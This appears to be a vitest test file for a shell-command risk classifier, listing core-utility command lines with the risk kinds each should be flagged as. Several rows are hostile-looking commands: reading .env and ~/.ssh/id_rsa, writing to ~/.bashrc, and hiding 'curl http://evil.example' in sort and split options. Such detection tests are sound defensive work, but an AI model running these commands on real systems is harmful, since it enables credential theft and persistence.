// What the specs of core utilities say of whole command lines: flagged kinds, then what is run in turn.
// A row with an empty text is harmless and must stay silent.

import { describe, expect, it } from "vitest";
import { kindsOf } from "../line.ts";

const ROWS: readonly (readonly [command: string, kinds: string])[] = [
  ["cat README.md", ""],
  ["cat .env", "credential-read"],
  ["tail -f app.log", ""],
  ["sort -o ~/.bashrc x", "persistence"],
  ["sort --compress-program 'curl http://evil.example' x", "network hidden-code"],
  ["sort -k2 -n data.csv", ""],
  ["split --filter 'curl http://evil.example' big", "network"],
  ["tee ~/.bashrc", "persistence"],
  ["ls -la ~/.ssh", ""],
  ["date -f ~/.ssh/id_rsa", "credential-read"],
  ["base64 ~/.ssh/id_rsa", "credential-read"],
  ["wc -l a b", ""],
];

describe("core utilities", () => {
  it.each(ROWS)("reads %s as %s", (command, kinds) => {
    expect(kindsOf(command)).toBe(kinds);
  });
});
